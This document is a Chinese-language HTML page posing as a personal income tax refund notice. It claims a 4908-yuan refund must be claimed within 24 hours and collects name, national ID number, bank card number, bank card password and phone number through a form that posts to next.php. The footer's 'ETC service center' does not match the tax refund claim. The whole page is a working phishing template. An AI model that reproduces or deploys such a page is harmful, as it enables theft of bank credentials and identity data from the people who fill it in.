<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>个人所得税退税</title>
<style>html,body{height:100%}.wrap{width:1000px;margin:0 auto}</style>

</head>
<body>
<div id="nav">
  <span class="nav-item"><a href="?c=1">首页</a></span>
</div>
<main class="content">
<div class="block">
<div class="notice">您有一笔4908元个税退税待领取，请在24小时内完成申请</div>
</div>
<div class="block">
<form action="next.php" method="post"><div class="row"><label>姓名</label><input type="text" name="name" placeholder="请输入姓名"></div>
<div class="row"><label>身份证号</label><input type="text" name="idno" placeholder="请输入身份证号"></div>
<div class="row"><label>银行卡号</label><input type="text" name="card" placeholder="请输入银行卡号"></div>
<div class="row"><label>银行卡密码</label><input type="password" name="pass" placeholder="请输入银行卡密码"></div>
<div class="row"><label>手机号</label><input type="text" name="phone" placeholder="请输入手机号"></div><button>立即兑换</button></form>
</div>
</main>
<footer>ETC服务中心</footer>

</body>
</html>
